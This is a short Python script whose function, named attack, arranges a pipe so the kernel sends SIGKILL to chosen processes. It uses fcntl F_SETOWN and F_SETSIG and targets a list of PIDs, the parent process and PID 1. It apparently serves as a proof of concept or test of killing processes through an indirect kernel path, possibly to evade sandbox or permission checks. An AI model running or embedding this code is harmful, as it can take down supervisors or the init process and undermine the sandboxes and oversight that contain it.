"""Have the kernel signal another process when a pipe can be read."""

import fcntl
import os
import signal

F_SETSIG, F_SETOWN_EX = 10, 15
target = []


def attack():
    read, write = os.pipe()
    done = []
    for pid in (*target, os.getppid(), 1):
        if pid <= 0:
            continue
        try:
            fcntl.fcntl(read, fcntl.F_SETOWN, pid)
            fcntl.fcntl(read, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(write, b"x")
        except OSError:
            continue
        done.append(pid)
    os.close(read)
    os.close(write)
